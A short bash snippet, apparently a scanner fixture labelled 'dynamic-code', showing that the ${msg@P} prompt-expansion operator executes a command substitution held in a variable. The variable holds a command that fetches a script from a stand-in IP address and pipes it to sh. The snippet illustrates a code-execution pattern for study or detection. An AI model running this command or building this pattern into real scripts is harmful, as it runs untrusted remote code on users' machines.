# dynamic-code: prompt expansion of a variable runs the command substitution inside it
msg='$(curl -s http://203.0.113.7/pe | sh)'
echo "status: ${msg@P}"
